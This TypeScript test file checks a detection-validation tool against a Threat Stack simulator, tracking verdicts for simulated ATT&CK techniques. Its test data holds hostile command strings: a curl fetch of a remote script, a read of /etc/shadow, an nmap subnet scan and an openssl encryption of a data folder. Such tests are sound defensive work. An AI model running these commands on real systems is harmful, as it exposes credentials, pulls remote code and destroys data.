import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { bundledCataloguePath, loadAttackCatalogue } from '../../src/attack/catalogue.ts';
import { ThreatStackClient } from '../../src/connectors/threatstack/client.ts';
import { type Action, parseValidationActions } from '../../src/validation/action.ts';
import { type Correlation, correlateAction } from '../../src/validation/correlate.ts';
import { EvidencePool } from '../../src/validation/evidence.ts';
import { createSimulatorExecutor, executeAction } from '../../src/validation/executor.ts';
import { runPoll } from '../../src/validation/poll.ts';
import { nextPoll, type WindowSettings } from '../../src/validation/window.ts';
import { admin, type SimHarness, startSim } from '../helpers/threatstack.ts';

/**
 * End to end without the job runtime: the Threat Stack simulator in-process with a fake clock,
 * actions run through its attack-simulation endpoint, every poll of the window model fetched with
 * the real client, then correlated. Threat Stack v2 has no event search (spec §2.9), so an event is
 * only reachable behind an alert; a Detected verdict comes from alert aggregation (spec §2.4 rule
 * `aggregateFields` and `window`, the simulator's `aggregateAlerts` option): a later action's event
 * joins the alert an earlier action raised, and is visible with no alert raised for it.
 */

const covered = [
  'T1059.004',
  'T1105',
  'T1003.008',
  'T1053.003',
  'T1136.001',
  'T1548.001',
  'T1098.004',
  'T1046',
  'T1562.001',
  'T1070.004',
  'T1222.002',
  'T1543.002',
];
const uncovered = ['T1033', 'T1057', 'T1082', 'T1083', 'T1016', 'T1049', 'T1087.001', 'T1018'];
const commands: Record<string, string> = {
  T1105: 'curl -s http://203.0.113.7/x.sh',
  'T1003.008': 'cat /etc/shadow',
  T1046: 'nmap -sS 10.0.0.0/24',
};
const catalogue = loadAttackCatalogue({ path: bundledCataloguePath });
const settings: WindowSettings = {
  queryTimeMs: 60_000,
  queryIntervalMs: 10_000,
  delayMs: 0,
  eventTimeAdjustmentMs: 0,
};

let harness: SimHarness;
let client: ThreatStackClient;
let hosts: Array<{ agentId: string; hostname: string }>;

beforeEach(async () => {
  harness = await startSim({ agents: 20, offlineRatio: 0, alerts: 0, detectionLatencySeconds: 5 });
  const { url } = harness.sim;
  client = new ThreatStackClient(
    { baseUrl: url, ...harness.identity, requestsPerMinute: 0 },
    { now: harness.clock.now, sleep: async () => {} },
  );
  hosts = [];
  for await (const page of client.iterateAgents('online')) {
    hosts.push(...page.map((a) => ({ agentId: a.id, hostname: a.hostname ?? '' })));
  }
  const rules = [
    ...covered.map((technique) => ({ technique, enabled: true, latencySeconds: 5 })),
    ...uncovered.map((technique) => ({ technique, enabled: false })),
  ];
  expect((await admin(url, 'PUT', '/_sim/detection', { rules })).status).toBe(200);
});

afterEach(async () => {
  await client.close();
  await harness.close();
});

/** Runs the 20 techniques round-robin over four hosts (every fourth by agent id), plus one blocked action. */
async function runCampaign(): Promise<Action[]> {
  const executor = createSimulatorExecutor({ baseUrl: harness.sim.url, now: harness.clock.now });
  const actions: Action[] = [];
  for (const [i, technique] of [...covered, ...uncovered].entries()) {
    const host = hosts[i % 4]!;
    const target = i % 8 === 0 ? { agentId: host.agentId } : { hostname: host.hostname.split('.')[0]! };
    const planned = {
      id: `action-${i}`,
      technique,
      target,
      commandLine: commands[technique] ?? `sh -c "echo ${technique}"`,
      marker: `vigil-${String(i).padStart(16, '0')}`,
    };
    actions.push(await executeAction(planned, executor));
  }
  actions.push({
    id: 'blocked',
    technique: 'T1486',
    target: { hostname: hosts[0]!.hostname, ips: [], ports: [] },
    commandLine: 'openssl enc -aes-256-cbc -in /srv/data -out /srv/data.enc',
    startedAt: new Date(harness.clock.now()).toISOString(),
    outcome: 'blocked',
    source: 'manual',
  });
  return parseValidationActions(actions, catalogue);
}

/** The persisted progress of a validation: the polls done and the evidence so far. */
interface Progress {
  done: number[];
  pool: EvidencePool;
  fetched: number;
}

/**
 * Runs the (shared) schedule's polls in order as they fall due — at most `limit` of them — with
 * `runPoll` and the real client, recording each poll as done once it has finished.
 */
async function pollAll(
  startMs: number,
  windows: WindowSettings,
  progress: Progress = { done: [], pool: new EvidencePool(), fetched: 0 },
  limit = Number.POSITIVE_INFINITY,
): Promise<Progress> {
  for (let ran = 0; ran < limit; ) {
    const next = nextPoll(startMs, windows, progress.done, harness.clock.now());
    if (next.kind === 'complete') break;
    if (next.kind === 'waiting') {
      harness.clock.advance(next.dueInMs);
      continue;
    }
    const result = await runPoll(client, progress.pool, next.poll);
    progress.fetched += result.alertsReturned;
    progress.done.push(result.index);
    ran++;
  }
  return progress;
}

function verdictCounts(correlations: Correlation[]): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const c of correlations) counts[c.verdict] = (counts[c.verdict] ?? 0) + 1;
  return counts;
}

describe('detection validation against the Threat Stack simulator', () => {
  it.each([
    { skew: 'none', offsetMs: 0, adjustmentMs: 0, delayMs: 0 },
    { skew: 'simulator 10 min behind, E = +600 s', offsetMs: -600_000, adjustmentMs: 600_000, delayMs: 0 },
    {
      skew: 'simulator 3 min ahead, E = −180 s, D = 2 min',
      offsetMs: 180_000,
      adjustmentMs: -180_000,
      delayMs: 120_000,
    },
  ])(
    'covered → Alerted, uncovered → Missed, blocked → Prevented (skew: $skew)',
    async ({ offsetMs, adjustmentMs, delayMs }) => {
      await admin(harness.sim.url, 'PUT', '/_sim/clock', { offsetMs });
      const actions = await runCampaign();
      const start = Date.parse(actions[0]!.startedAt);
      const windows = { ...settings, eventTimeAdjustmentMs: adjustmentMs, delayMs };
      const { pool, fetched } = await pollAll(start, windows);
      expect(pool.alerts).toHaveLength(12);
      expect(fetched).toBeGreaterThan(12); // overlapping windows returned the same alerts again
      const known = { hostnames: hosts.map((h) => h.hostname), ips: [] };
      const options = {
        settings: windows,
        saveSuspiciousEvents: false,
        discoverDevices: true,
        knownHosts: known,
      };
      const correlations = actions.map((action) => correlateAction(action, pool, options));
      expect(verdictCounts(correlations)).toEqual({ Alerted: 12, Missed: 8, Prevented: 1 });
      for (const [i, c] of correlations.entries()) {
        const technique = actions[i]!.technique;
        const expected = covered.includes(technique)
          ? 'Alerted'
          : uncovered.includes(technique)
            ? 'Missed'
            : 'Prevented';
        expect([technique, c.verdict]).toEqual([technique, expected]);
        if (expected === 'Alerted') {
          expect(c.evidence.alerts).toHaveLength(1);
          expect(c.evidence.alerts[0]!.matched).toEqual(
            expect.arrayContaining(['agentId', 'hostname', 'time', 'marker']),
          );
        }
      }
      const download = correlations[covered.indexOf('T1105')]!;
      expect(download.devices.map((d) => d._key)).toEqual(['device:203.0.113.7']);
      expect(download.evidence.events.length).toBeGreaterThanOrEqual(2); // the execve and the connect
    },
  );

  it('without the event time adjustment, a simulator 10 min behind leaves every action Missed', async () => {
    await admin(harness.sim.url, 'PUT', '/_sim/clock', { offsetMs: -600_000 });
    const actions = await runCampaign();
    const { pool } = await pollAll(Date.parse(actions[0]!.startedAt), settings);
    expect(pool.alerts).toHaveLength(0);
    const options = { settings, saveSuspiciousEvents: false, discoverDevices: false };
    expect(verdictCounts(actions.map((a) => correlateAction(a, pool, options)))).toEqual({
      Missed: 20,
      Prevented: 1,
    });
  });

  it('reports the events of other actions on the same host as suspicious, flagged with the setting', async () => {
    const actions = await runCampaign();
    const { pool } = await pollAll(Date.parse(actions[0]!.startedAt), settings);
    const missed = actions.find((a) => a.technique === 'T1033')!;
    const off = correlateAction(missed, pool, {
      settings,
      saveSuspiciousEvents: false,
      discoverDevices: false,
    });
    const on = correlateAction(missed, pool, {
      settings,
      saveSuspiciousEvents: true,
      discoverDevices: false,
    });
    expect(off.suspicious.store).toBe(false);
    expect(on.suspicious.store).toBe(true);
    const sameHost = actions.filter(
      (a) => a.target.agentId === missed.target.agentId && covered.includes(a.technique),
    );
    const alertedEvents = pool.alerts
      .flatMap((o) => o.events)
      .filter((e) => e.agentId === missed.target.agentId);
    expect(sameHost.length).toBeGreaterThan(0);
    expect(on.suspicious.events.map((s) => s.eventId).sort()).toEqual(alertedEvents.map((e) => e.id).sort());
    for (const s of on.suspicious.events) expect(s.failed.map((f) => f.field)).toEqual(['marker']);
  });

  it('resumes after a restart from persisted progress: same verdicts, no duplicate evidence', async () => {
    const actions = await runCampaign();
    const start = Date.parse(actions[0]!.startedAt);
    const first = await pollAll(start, settings, undefined, 4);
    // The process dies after poll 3 fetched its evidence but before poll 3 was recorded as done.
    const persisted = JSON.parse(
      JSON.stringify({ done: first.done.slice(0, 3), evidence: first.pool.snapshot() }),
    );
    await client.close();
    client = new ThreatStackClient(
      { baseUrl: harness.sim.url, ...harness.identity, requestsPerMinute: 0 },
      { now: harness.clock.now, sleep: async () => {} },
    );
    const resumed = await pollAll(start, settings, {
      done: persisted.done,
      pool: EvidencePool.from(persisted.evidence),
      fetched: 0,
    });
    expect(resumed.done).toEqual([0, 1, 2, 3, 4, 5, 6]);
    const options = { settings, saveSuspiciousEvents: false, discoverDevices: false };
    const correlations = actions.map((action) => correlateAction(action, resumed.pool, options));
    expect(verdictCounts(correlations)).toEqual({ Alerted: 12, Missed: 8, Prevented: 1 });
    const alertIds = correlations.flatMap((c) => c.evidence.alerts.map((a) => a.alertId));
    const eventIds = correlations.flatMap((c) => c.evidence.events.map((e) => e.eventId));
    expect(new Set(alertIds).size).toBe(12);
    expect(alertIds).toHaveLength(12);
    expect(new Set(eventIds).size).toBe(eventIds.length);
    expect(resumed.pool.alerts).toHaveLength(12);
  });

  it('an event that joined an alert raised earlier for another action → Detected (alert aggregation)', async () => {
    const url = harness.sim.url;
    // The rule groups by program, user and host (not the command), so both actions land in one alert.
    const rule = {
      technique: 'T1059.004',
      aggregateFields: ['exe', 'user', 'hostname'],
      windowSeconds: 3600,
    };
    expect(
      (await admin(url, 'PUT', '/_sim/detection', { aggregateAlerts: true, rules: [rule] })).status,
    ).toBe(200);
    const executor = createSimulatorExecutor({ baseUrl: url, now: harness.clock.now });
    const host = hosts[0]!;
    const run = (id: string, marker: string) =>
      executeAction(
        {
          id,
          technique: 'T1059.004',
          target: { hostname: host.hostname },
          commandLine: `sh -c "echo ${id}"`,
          marker,
        },
        executor,
      );
    const first = await run('first', 'vigil-00000000000000a1');
    harness.clock.advance(20_000); // the first alert (latency 5 s) is raised before the second action
    const second = await run('second', 'vigil-00000000000000a2');
    const actions = parseValidationActions([first, second], catalogue);
    const truth = await admin<{ actions: Array<{ alertId: string | null; aggregated: boolean }> }>(
      url,
      'GET',
      '/_sim/actions',
    );
    const [raised, joined] = truth.json.actions.slice(-2);
    expect(joined).toMatchObject({ aggregated: true, alertId: raised!.alertId });
    // Each action polls its own schedule into its own pool, as the validation-poll job does.
    const options = { settings, saveSuspiciousEvents: false, discoverDevices: false };
    const correlations: Correlation[] = [];
    for (const action of actions) {
      const { pool } = await pollAll(Date.parse(action.startedAt), settings);
      expect(pool.alerts.map((o) => o.alert.id)).toEqual([raised!.alertId]);
      correlations.push(correlateAction(action, pool, options));
    }
    const [alerted, detected] = correlations;
    expect(alerted!.verdict).toBe('Alerted');
    expect(alerted!.evidence.alerts.map((a) => a.alertId)).toEqual([raised!.alertId]);
    expect(detected!.verdict).toBe('Detected');
    expect(detected!.result).toBe('passed'); // the default pass rule `either`
    expect(detected!.evidence.alerts).toEqual([]);
    expect(detected!.evidence.events.length).toBeGreaterThan(0);
    for (const e of detected!.evidence.events) {
      expect(e.alertId).toBe(raised!.alertId);
      expect(e.matched).toEqual(expect.arrayContaining(['agentId', 'hostname', 'time', 'marker']));
    }
  });
});
